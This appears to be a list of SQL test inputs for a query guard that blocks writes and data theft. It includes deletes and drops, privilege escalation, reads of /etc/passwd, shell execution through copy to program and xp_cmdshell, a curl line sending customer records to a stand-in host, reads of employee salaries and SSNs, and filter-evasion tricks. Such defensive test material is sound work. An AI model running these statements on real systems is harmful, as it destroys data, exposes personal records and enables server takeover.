delete from shop.orders
---
select 1; delete from shop.orders
---
select 1; select 2
---
commit; drop table shop.orders
---
begin; delete from shop.orders; end;
---
do $$ begin delete from shop.orders; end $$
---
call shop.steal()
---
copy shop.customers to stdout
---
copy (select 1) to program 'id'
---
copy shop.customers from '/etc/passwd'
---
explain analyze delete from shop.orders
---
explain select * from shop.customers
---
explain analyze select 1
---
set transaction read write
---
set role postgres
---
reset all
---
show all
---
prepare p as delete from shop.orders
---
execute p
---
declare c cursor for select * from shop.customers
---
listen x
---
notify x
---
lock table shop.orders
---
vacuum
---
analyze shop.orders
---
reindex table shop.orders
---
cluster shop.orders
---
refresh materialized view shop.cards
---
truncate shop.orders
---
drop table shop.orders
---
create table shop.x (a int)
---
create table shop.x as select * from shop.customers
---
alter table shop.orders add column x int
---
grant all on shop.orders to public
---
TABLE hr.employees
---
select * into shop.copy from shop.customers
---
select id into temp t from shop.orders
---
select * from shop.orders for update
---
select * from shop.orders for no key update skip locked
---
select * from (select * from shop.orders for share) x
---
with d as (delete from shop.orders returning *) select * from d
---
with i as (insert into shop.categories values (9, null, 'x') returning id) select * from i
---
with u as materialized (update shop.orders set amount = 0 returning *) select 1
---
select (with d as (delete from shop.orders returning 1) select 1)
---
merge into shop.orders o using shop.products p on o.id = p.id when matched then delete
---
insert into shop.categories values (9, null, 'x')
---
update shop.orders set amount = 0
---
select pg_read_file('/etc/passwd')
---
select "pg_read_file"('/etc/passwd')
---
select pg_catalog.pg_read_file('/etc/passwd')
---
select ('/etc/passwd'::text).pg_read_file
---
select pg_ls_dir('/')
---
select * from pg_stat_file('/etc/passwd')
---
select lo_create(0)
---
select lo_import('/etc/passwd')
---
select lo_get(1)
---
select * from dblink('host=localhost', 'select 1') as t(x int)
---
select query_to_xml('select * from hr.employees', true, true, '')
---
select table_to_xml('shop.customers', true, true, '')
---
select database_to_xml(true, true, '')
---
select cursor_to_xml('c', 1, true, true, '')
---
select ts_stat('select to_tsvector(ssn) from shop.customers')
---
select * from ts_stat('select to_tsvector(ssn) from shop.customers')
---
select ts_rewrite('a'::tsquery, 'select ssn::tsquery, ssn::tsquery from shop.customers')
---
select set_config('transaction_read_only', 'off', false)
---
select current_setting('data_directory')
---
select pg_terminate_backend(1)
---
select pg_cancel_backend(1)
---
select pg_advisory_lock(1)
---
select pg_notify('a', 'b')
---
select pg_reload_conf()
---
select pg_switch_wal()
---
select pg_sleep(100)
---
select nextval('shop.counter')
---
select setval('shop.counter', 99)
---
select currval('shop.counter')
---
select last_value from shop.counter
---
select txid_current()
---
select pg_export_snapshot()
---
select pg_logical_emit_message(true, 'a', 'b')
---
select version()
---
select current_user
---
select session_user, inet_server_addr()
---
select has_table_privilege('hr.employees', 'select')
---
select to_regclass('hr.employees')
---
select 'hr.employees'::regclass
---
select cast('hr.employees' as regclass)
---
select oid::regclass from shop.types
---
select * from pg_stats
---
select * from pg_catalog.pg_authid
---
select * from pg_shadow
---
select * from "pg_stats"
---
select * from information_schema.tables
---
select * from pg_toast.pg_toast_1
---
select * from hr.employees
---
select name from "hr"."employees"
---
select * from shop.staff
---
select e.* from shop.orders o, hr.employees e
---
select * from shop.orders where id in (select id from hr.employees)
---
select (select max(salary) from hr.employees)
---
with customers as (select * from hr.employees) select * from customers
---
select * from shop.customers union select id, name, ssn, ssn, ssn, null, null, null, null, null, null from hr.employees
---
select 1 order by (select salary from hr.employees limit 1)
---
select 1 limit (select salary from hr.employees limit 1)
---
select count(*) over (order by (select 1 from hr.employees limit 1)) from shop.orders
---
select array_agg(id order by (select max(salary) from hr.employees)) from shop.orders
---
select 1 from shop.orders o join shop.products p on exists (select 1 from hr.employees)
---
select case when exists (select 1 from hr.employees) then 1 end
---
select array(select ssn from hr.employees)
---
select * from lateral (select * from hr.employees) x
---
values ((select max(salary) from hr.employees))
---
select shop.steal()
---
select steal()
---
select * from shop.steal()
---
select * from shop.sneaky
---
select shop.ssn_of(c) from shop.customers c
---
select ssn_of(c) from shop.customers c
---
select c.ssn_of from shop.customers c
---
select (c).ssn_of from shop.customers c
---
select ssn(c) from shop.customers c
---
select 'a' operator(shop.===) 'b'
---
select 'a' === 'b'
---
select ctid, xmin from shop.customers
---
select tableoid::regclass from shop.visits
---
select * from shop.customers tablesample system (100)
---
select * from xmltable('/a' passing (select ssn from hr.employees limit 1)::xml columns b text)
---
select xmlparse(document '<a/>')
---
select $1
---
select :name
---
select 1 // 2
---
select id#salary from shop.orders
---
select @salary from shop.orders
---
select `id` from shop.orders
---
select {fn now()}
---
select {d '2024-01-01'}
---
select 'a\' or 1=1 --'
---
select E'\x00'
---
select U&"\0069d" from shop.orders
---
select U&'!0061' uescape '!'
---
select 'a' 'b'
---
select 'a
---
select "a
---
select /* never closed
---
select $a$ never closed
---
select (1
---
select 1)
---
select (1]
---
select１
---
select 1;;
---
;
---
--
---
select a.b.c.d.e from shop.orders a
---
select nothing from shop.orders
---
select * from shop.nothing
---
select * from nothing.at_all
---
select * from shop.orders, lateral (select hidden from orders x) y
---
select aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa from shop.orders
---
with recursive customers as (select * from employees), employees as (select 1) select * from customers
---
with recursive a as (select * from a) select * from a
---
select * from shop.customers as of system time now()
---
handler shop.orders open
---
select * from rows from (pg_ls_dir('/')) x
---
select * from json_to_record('{}') as x(a regclass)
---
select interval '1' day::regrole
---
select 'x'::shop.phone
---
select 'x'::nothing
---
select null::shop.customers
---
select current_schema
---
select user
---
select pg_typeof(1)::oid
---
select * from generate_series(1, (select max(salary) from hr.employees))
---
select 1 /*!50000 union select * from hr.employees */ union select salary from hr.employees
---
select * from shop.customers; --
drop table shop.orders
---
select 1 as a; /* */ select 2 as b
---
/* select */ delete from shop.orders where true
---
-- x
truncate shop.orders
---
with x as (select 1) delete from shop.orders
---
with x as (select 1) update shop.orders set amount = 1
---
with x as (select 1) insert into shop.categories select 50, null, 'x'
---
with x as (select 1) merge into shop.categories c using x on true when matched then delete
---
with a as (select 1), b as (delete from shop.orders returning *) select * from a
---
with recursive d as (delete from shop.orders returning *) select * from d
---
select * from (with d as (update shop.orders set amount = 0 returning *) select * from d) x
---
select * from shop.orders where id in (with d as (delete from shop.orders returning id) select id from d)
---
select exists (with i as (insert into shop.categories values (77, 1, 'x') returning 1) select * from i)
---
(delete from shop.orders)
---
(select 1) ; (select 2)
---
select * from shop.orders for update of orders nowait
---
(select * from shop.orders for update)
---
(select id from shop.orders) for update
---
select * from shop.orders for key share
---
select * from shop.orders limit 1 for update skip locked
---
select * from shop.orders for read only
---
with x as (select * from shop.orders for update) select * from x
---
select * into temporary table t from shop.orders
---
select * into unlogged u from shop.orders
---
select 1 into strict x
---
create temp table t as select 1
---
create or replace view shop.v as select 1
---
create function f() returns int language sql as 'select 1'
---
create extension dblink
---
create server s foreign data wrapper postgres_fdw
---
create role r superuser
---
alter role postgres password 'x'
---
alter system set log_statement = 'all'
---
alter user gate with superuser
---
set session authorization postgres
---
set local role postgres
---
set search_path to hr
---
set constraints all deferred
---
start transaction read write
---
rollback
---
abort
---
savepoint s
---
release s
---
prepare transaction 'x'
---
commit prepared 'x'
---
discard all
---
deallocate all
---
checkpoint
---
load 'auto_explain'
---
import foreign schema x from server s into shop
---
security label on table shop.orders is 'x'
---
comment on table shop.orders is 'x'
---
reassign owned by gate to postgres
---
drop owned by gate
---
copy (select * from shop.customers) to stdout
---
copy shop.customers to program 'curl -d @- http://x'
---
copy shop.categories from program 'id'
---
fetch all from c
---
move forward in c
---
close all
---
unlisten *
---
explain (analyze, verbose) select * from shop.customers
---
explain (format json) select ssn from shop.customers
---
explain analyze execute p
---
describe shop.customers
---
show tables
---
\d shop.customers
---
\copy shop.customers to '/tmp/x'
---
\! id
---
values (pg_read_file('/etc/passwd'))
---
select * from pg_read_file('/etc/passwd')
---
select * from pg_catalog.pg_read_file('/etc/passwd') as f
---
select lateral.x from lateral pg_read_file('/etc/passwd') as lateral(x)
---
select PG_READ_FILE('/etc/passwd')
---
select "pg_catalog"."pg_read_file"('/etc/passwd')
---
select pg_catalog . pg_read_file ( '/etc/passwd' )
---
select pg_catalog/**/./**/pg_read_file/**/('/etc/passwd')
---
select U&"pg_re\0061d_file"('/etc/passwd')
---
select ("pg_read_file"('/etc/passwd'))::text
---
select readers.pg_catalog.pg_read_file('/etc/passwd')
---
select upper(pg_read_file('/etc/passwd', 0, 10))
---
select coalesce(pg_read_file('/etc/passwd'), 'x')
---
select case when true then pg_read_file('/etc/passwd') end
---
select array_agg(pg_ls_dir('/'))
---
select count(*) filter (where pg_sleep(10) is null) from shop.orders
---
select count(*) over (partition by pg_sleep(1)) from shop.orders
---
select 1 order by pg_sleep(5)
---
select 1 limit length(pg_read_file('/etc/passwd'))
---
select 1 offset length(pg_sleep(1)::text)
---
select 1 group by pg_sleep(1)
---
select 1 having pg_sleep(1) is null
---
select * from shop.orders where pg_sleep(1) is null
---
select * from shop.orders o join shop.products p on pg_sleep(1) is null
---
select * from (values (pg_sleep(1))) v
---
select array[pg_ls_dir('/')]
---
select row(pg_read_file('/etc/passwd'))
---
select (select pg_read_file('/etc/passwd'))
---
select distinct on (pg_read_file('/etc/passwd')) 1
---
select sum(1) over w from shop.orders window w as (order by pg_sleep(1))
---
select string_agg('x', pg_read_file('/etc/passwd')) from shop.orders
---
select percentile_cont(length(pg_read_file('/etc/passwd'))) within group (order by amount) from shop.orders
---
select cast(pg_read_file('/etc/passwd') as text)
---
select extract(year from pg_postmaster_start_time())
---
select trim(both pg_read_file('/etc/passwd') from 'x')
---
select substring(pg_read_file('/etc/passwd') from 1 for 5)
---
select position('r' in pg_read_file('/etc/passwd'))
---
select overlay(pg_read_file('/etc/passwd') placing 'x' from 1)
---
select pg_read_binary_file('/etc/passwd')
---
select pg_ls_logdir()
---
select pg_ls_waldir()
---
select * from pg_ls_tmpdir()
---
select pg_file_write('x', 'y', false)
---
select pg_logdir_ls()
---
select pg_current_logfile()
---
select lo_export(1, '/tmp/x')
---
select lo_from_bytea(0, '\x00')
---
select lo_put(1, 0, '\x00')
---
select lo_unlink(1)
---
select loread(1, 1)
---
select dblink_connect('x')
---
select dblink_exec('x', 'y')
---
select * from postgres_fdw_get_connections()
---
select query_to_json('select 1')
---
select schema_to_xml('hr', true, true, '')
---
select query_to_xml_and_xmlschema('select * from hr.employees', true, true, '')
---
select xpath('/a', query_to_xml('select 1', true, true, ''))
---
select xmlelement(name a, (select salary from hr.employees limit 1))
---
select xmlforest(ssn) from shop.customers
---
select xmlagg(xmlelement(name x, ssn)) from shop.customers
---
select xmlserialize(content '<a/>' as text)
---
select current_query()
---
select pg_get_viewdef('shop.contacts')
---
select pg_get_functiondef(1)
---
select obj_description('shop.customers'::regclass)
---
select col_description(1, 1)
---
select pg_relation_size('shop.customers')
---
select pg_total_relation_size('hr.employees')
---
select pg_table_size('shop.orders')
---
select pg_database_size('readers')
---
select pg_relation_filepath('shop.customers')
---
select pg_stat_get_live_tuples(1)
---
select pg_stat_reset()
---
select pg_stat_activity
---
select * from pg_stat_activity
---
select * from pg_catalog.pg_class
---
select * from pg_tables where schemaname = 'hr'
---
select * from pg_roles
---
select * from pg_user
---
select * from pg_hba_file_rules
---
select * from pg_settings
---
select * from pg_statistic
---
select * from pg_stats_ext
---
select * from pg_locks
---
select * from pg_prepared_statements
---
select * from pg_cursors
---
select * from pg_attribute, shop.orders
---
select * from "pg_catalog"."pg_proc"
---
select * from PG_CATALOG.PG_AUTHID
---
select * from information_schema.columns where table_name = 'employees'
---
select * from "information_schema"."tables"
---
select * from INFORMATION_SCHEMA.role_table_grants
---
select (select count(*) from pg_class)
---
with pg_class as (select 1) select * from pg_class
---
select pg_class.relname from pg_class
---
select 'pg_authid'::regclass
---
select 'postgres'::regrole::text
---
select '1'::regtype, 'x'::regproc
---
select 'upper(text)'::regprocedure
---
select 1::oid::regnamespace
---
select '+'::regoper
---
select 'simple'::regconfig
---
select '(0,1)'::tid
---
select '1'::xid, '1'::cid
---
select 'x'::pg_lsn
---
select '<a/>'::xml
---
select xml '<a/>'
---
select regclass 'hr.employees'
---
select pg_catalog.regclass 'hr.employees'
---
select 'x'::"regclass"
---
select array['hr.employees']::regclass[]
---
select cast(array['hr.employees'] as regclass array)
---
select null::hr.employees
---
select null::shop.orders
---
select (null::shop.customers).ssn
---
select row(1, 'a')::shop.categories
---
select jsonb_populate_record(null::shop.customers, '{}')
---
select json_populate_recordset(null::hr.employees, '[]')
---
select * from jsonb_to_record('{}') as x(a shop.customers)
---
select * from json_to_recordset('[]') as x(a pg_catalog.regclass)
---
select 'x'::refcursor
---
select '1'::information_schema.cardinal_number
---
select 'postgres=r/postgres'::aclitem
---
select 'x'::cstring
---
select record_out(row(1))
---
select textin('x')
---
select int4in('1')
---
select pg_catalog.boolin('t')
---
select set_config('role', 'postgres', true)
---
select set_config('search_path', 'hr', false)
---
select current_setting('is_superuser')
---
select pg_catalog.current_setting('server_version')
---
select pg_conf_load_time()
---
select pg_rotate_logfile()
---
select pg_create_restore_point('x')
---
select pg_promote()
---
select pg_backup_start('x')
---
select pg_wal_replay_pause()
---
select pg_create_physical_replication_slot('x')
---
select pg_drop_replication_slot('x')
---
select pg_replication_origin_create('x')
---
select pg_logical_slot_get_changes('x', null, null)
---
select pg_try_advisory_lock(1)
---
select pg_advisory_xact_lock(1, 2)
---
select pg_advisory_unlock_all()
---
select pg_sleep_for('5 minutes'), pg_sleep_until('tomorrow')
---
select pg_log_backend_memory_contexts(1)
---
select pg_backend_pid()
---
select pg_blocking_pids(1)
---
select pg_current_xact_id()
---
select pg_current_snapshot()
---
select txid_status(1)
---
select pg_xact_commit_timestamp('1')
---
select pg_my_temp_schema()
---
select pg_is_in_recovery(), pg_last_wal_replay_lsn()
---
select inet_client_addr(), inet_server_port()
---
select has_schema_privilege('hr', 'usage')
---
select has_column_privilege('hr.employees', 'salary', 'select')
---
select pg_has_role('postgres', 'member')
---
select to_regtype('x'), to_regproc('y'), to_regrole('z'), to_regnamespace('hr')
---
select pg_identify_object(1, 1, 1)
---
select format_type(1, 2)
---
select row_security_active('shop.orders')
---
select setseed(0.5)
---
select lastval()
---
select nextval('shop.counter'::text)
---
select pg_get_serial_sequence('shop.orders', 'id')
---
select * from shop.counter
---
select last_value from counter
---
select lo_get(oid) from pg_largeobject_metadata
---
select ts_debug('x')
---
select * from ts_parse('default', 'x')
---
select ts_lexize('english_stem', 'x')
---
select binary_upgrade_create_empty_extension('x')
---
select gin_clean_pending_list(1)
---
select brin_summarize_new_values('x')
---
select pg_import_system_collations('x')
---
select amvalidate(1)
---
select * from crosstab('select * from hr.employees') as t(a text, b text)
---
select * from pg_stat_statements
---
select * from generate_series(1, 3) g, pg_ls_dir('/') d
---
select * from rows from (generate_series(1, 2), pg_ls_dir('/')) r
---
select * from unnest(array(select pg_ls_dir('/')))
---
select shop.steal() from shop.orders
---
select "shop"."steal"()
---
select * from shop.steal() as s(x)
---
select * from lateral shop.steal() s
---
select (shop.steal())::text
---
select upper(shop.steal())
---
select 1 where shop.steal() like 'J%'
---
select loot from shop.sneaky
---
select * from sneaky s
---
select exists (select 1 from shop.sneaky where loot like 'J%')
---
select c.steal from shop.customers c
---
select (c).upper from shop.customers c
---
select c.row_to_json from shop.customers c
---
select customers.text from shop.customers
---
select name(c) from shop.customers c
---
select shop.customers(c) from shop.customers c
---
select 'a' operator(shop.===) name from shop.customers
---
select 1 operator(pg_catalog.+
---
select 'a' operator(===) 'b'
---
select ctid from shop.orders
---
select c.ctid, c.xmin, c.xmax, c.cmin, c.cmax from shop.customers c
---
select tableoid from shop.customers
---
select customers.tableoid from shop.customers
---
select (c).ctid from shop.customers c
---
select "ctid" from shop.customers
---
select 1 from shop.customers where ctid = '(0,1)'
---
select name from shop.customers order by ctid
---
select max(xmin::text) from shop.customers
---
select oid from shop.orders
---
select * from shop.customers tablesample bernoulli (50) repeatable (1)
---
select * from shop.orders o tablesample system (10)
---
select * from hr.employees e where e.salary > 1
---
select * from "hr" . "employees"
---
select * from HR.Employees
---
select * from U&"\0068r".employees
---
select * from shop.orders natural join hr.employees
---
select 1 from hr.employees limit 0
---
select 1 where exists (table hr.employees)
---
select array(table hr.employees)
---
(table hr.employees)
---
select * from shop.orders union table hr.employees
---
with t as (table hr.employees) select * from t
---
select 1 where 1 in (table hr.employees)
---
select * from shop.staff s join shop.orders o on true
---
select salary from (select * from shop.staff) x
---
with staff as (select * from shop.staff) select * from staff
---
select name from shop.customers where name in (select name from shop.staff)
---
select * from vault.secrets
---
select * from readers.hr.employees
---
select * from postgres.public.x
---
select employees.salary from hr.employees
---
select hr.employees.salary from hr.employees
---
select hr.employees from hr.employees
---
select * from shop.customers c, lateral (select max(salary) from hr.employees where name = c.name) x
---
select (values ((select max(salary) from hr.employees)))
---
select * from generate_series(1, 2) g(i) where i < (select count(*) from hr.employees)
---
select case (select 1 from hr.employees limit 1) when 1 then 2 end
---
select coalesce((select salary from hr.employees limit 1), 0)
---
select sum((select count(*) from hr.employees)) from shop.orders
---
select sum(1) filter (where exists (select 1 from hr.employees)) from shop.orders
---
select sum(1) over (rows (select count(*) from hr.employees) preceding) from shop.orders
---
select mode() within group (order by (select max(salary) from hr.employees)) from shop.orders
---
select 1 from shop.orders window w as (partition by (select 1 from hr.employees limit 1))
---
select distinct on ((select 1 from hr.employees limit 1)) 1
---
select 1 fetch first (select 1 from hr.employees limit 1) rows only
---
select 1 group by rollup ((select salary from hr.employees limit 1))
---
select 1 having exists (select 1 from hr.employees)
---
select (array[1, 2])[(select count(*) from hr.employees)]
---
select 1 between 0 and (select count(*) from hr.employees)
---
select 1 = any (select salary from hr.employees)
---
select 'x' like (select name from hr.employees limit 1)
---
select interval '1 day' * (select count(*) from hr.employees)
---
select 'x' collate (select 1)
---
select extract(year from (select now() from hr.employees limit 1))
---
select 1::text::int::regclass
---
select $$x
---
select $tag$ x $TAG$
---
select $1::text
---
select ?
---
select * from shop.customers where name = ?
---
select ${x}
---
select #{x}
---
select %s
---
select :'name'
---
select :"name"
---
select a := 1
---
select x'zz'
---
select b'012'
---
select n'abc'
---
select _utf8'x'
---
select 'a' 'b' 'c'
---
select E'a' 'b'
---
select 'a\''
---
select e'\u0000'
---
select e'\xff'
---
select e'\400'
---
select u&'\d800'
---
select u&'\zzzz'
---
select U&"x" from shop.orders
---
select ''''''' from shop.orders
---
select "a""b
---
select ""
---
select 1 /* /* */
---
select 1 */ 2
---
select 1 -- \
; drop table shop.orders
---
select /*! 1 */ from shop.nothing
---
select 1 # comment
---
select 1 --+ 2; drop table x
union all select salary from hr.employees
---
select 1,
---
select , 1
---
select 1 1
---
select from where
---
select 1 from
---
select * from shop.orders where
---
select * from shop.orders group by
---
select * from shop.orders order by
---
select * from shop.orders limit
---
select case when true then 1
---
select case end
---
select ((1)
---
select [1]
---
select array[1
---
select array[1)
---
select {1}
---
select 1..2
---
select a..b from shop.orders a
---
select .a from shop.orders
---
select a. from shop.orders a
---
select *.* from shop.orders
---
select shop.* from shop.orders
---
select nothing.* from shop.orders
---
select o.nothing from shop.orders o
---
select orders.id from shop.orders o
---
select shop.orders.id from shop.orders o
---
select x.id from (select id from shop.orders) y
---
select id from shop.orders, shop.products
---
select * from shop.orders join shop.products using (nothing)
---
select id from shop.orders where count(*) > nothing
---
select * from (select id from shop.orders) order by missing
---
with a as (select * from b), b as (select 1) select * from a
---
with recursive a as (select * from b), b as (select * from a) select * from a
---
with a as (select 1) select * from A.b
---
with "A" as (select 1) select * from a
---
select * from shop.odd_name
---
select * from shop."odd name"
---
select "mixed case" from shop."Odd Name"
---
select "ID" from shop.orders
---
select * from "Shop".orders
---
select * from "shop.orders"
---
select * from shop.orders as "select" where select.id = 1
---
selеct * from shop.orders
---
select * frоm shop.orders
---
select*from shop.оrders
---
select ＊ from shop.orders
---
select 1；select 2
---
select ‘a’
---
select “id” from shop.orders
---
﻿select * from shop.orders
---
select​ 1
---
select 1‮
---
select﻿ 1
---
select "i‍d" from shop.orders
---
%73elect 1
---
select%201
---
select+1;drop+table+x
---
&#115;elect 1
---
U0VMRUNUIDE=
---
SELECT@@version
---
select sleep(5)
---
select benchmark(1, 1)
---
select load_file('/etc/passwd')
---
select * from shop.orders into outfile '/tmp/x'
---
select top 1 * from shop.orders
---
select * from dual connect by level < 5
---
select utl_http.request('http://x') from dual
---
exec xp_cmdshell 'id'
---
waitfor delay '0:0:5'
---
select * from openrowset('x')
---
pragma table_info(customers)
---
attach database 'x' as y
---
begin transaction; select 1; commit
---
if true then select 1; end if
---
do language plpgsql 'begin end'
---
call pg_catalog.pg_sleep(1)
---
replace into shop.orders values (1)
---
upsert into shop.orders values (1)
---
rename table shop.orders to x
---
grant select on hr.employees to gate
---
revoke all on shop.orders from public
---
kill 1
---
use hr
---
shutdown
---
table only hr.employees
---
table pg_authid
---
select * from only hr.employees
---
select * from only (pg_catalog.pg_authid)
---
select * from hr.employees *
---
select 1 from shop.orders o join hr.employees e join shop.products p on true on true
---
select 1 from shop.orders order by id using operator(shop.<)
---
select json_value('{}', '$.a' default pg_read_file('/etc/passwd') on error)
---
select json_query('1', '$' returning regclass)
---
select json_query('1', '$x' passing (select max(salary) from hr.employees) as x)
---
select json_array(select ssn from hr.employees)
---
select json_object('a' value (select max(ssn) from hr.employees))
---
select json_arrayagg(shop.steal())
---
select * from json_table('[1]', '$[*]' columns (a regclass path '$'))
---
select * from json_table('[1]', '$[*]' columns (a int path '$' default (select max(salary) from hr.employees) on empty))
---
select * from json_table((select to_jsonb(e) from hr.employees e limit 1), '$' columns (a text path '$.ssn'))
---
select * from json_table('[1]', '$[*]', pg_read_file('/etc/passwd') columns (a int))
---
with recursive r as (select 1 as a union all select a + 1 from r) cycle a set b to (select max(salary) from hr.employees) default 0 using c select * from r
---
with recursive r as (select 1 as a union all select a + 1 from r) search depth first by a, pg_sleep(1) set b select * from r
---
select xmlelement(name a, (select max(ssn) from hr.employees))
---
select xmlserialize(document '<a/>'::xml as text)
---
select merge_action()
---
select * from unnest(array(select ssn from hr.employees), array[1])
---
select pg_sleep(seconds := 100)
---
select id from shop.orders where id = :id
---
select :"id" from shop.orders
